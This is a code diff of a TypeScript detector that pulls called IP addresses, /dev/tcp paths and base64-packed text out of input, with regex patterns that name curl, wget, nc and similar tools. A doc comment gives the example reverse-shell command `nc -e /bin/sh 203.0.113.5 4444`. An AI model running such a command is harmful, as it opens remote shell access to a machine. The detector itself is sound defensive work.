@@ -7,7 +7,7 @@ const schemes =
 const devices = /\/dev\/(?:tcp|udp)\/([a-z0-9_.-]{1,253})\/(\d{1,5})/g
 /** `curl 203.0.113.5:8000/x`, `nc -e /bin/sh 203.0.113.5 4444`. */
 const commands =
-  /\b(?:curl|wget|nc|ncat|netcat|telnet|tftp)\b[^\n|;&]{0,120}?[\s"',]((?:\d{1,3}\.){3}\d{1,3})(?:[:\s"',]{1,4}(\d{1,5}))?(\/[^\s"'|;&)]{0,200})?/g
+  /\b(?:curl|wget|nc|ncat|netcat|telnet|tftp)\s(?:[^\n|;&]{0,120}?[\s"',])?((?:\d{1,3}\.){3}\d{1,3})(?:[:\s"',]{1,4}(\d{1,5}))?(\/[^\s"'|;&)]{0,200})?/g
 const packed = /[a-z0-9+/]{24,4000}={0,2}/gi
 const usual: Readonly<Record<string, string>> = {
   http: '80',
@@ -42,7 +42,10 @@ export function calledAddresses(text: string): readonly string[] {
 /** Texts in base64, as in `/Basic/Command/Base64/…` or `echo … | base64 -d`. */
 function unpackedPieces(text: string): readonly string[] {
   const pieces: string[] = []
-  for (const [piece] of text.slice(0, 64 << 10).matchAll(packed)) {
+  for (const [piece] of text
+    .slice(0, 64 << 10)
+    .replace(/base64\//gi, 'base64 ')
+    .matchAll(packed)) {
     if (pieces.length === 8) break
     try {
       const plain = atob(piece.replace(/=+$/, '').slice(0, piece.length - (piece.length % 4 === 1 ? 1 : 0)))
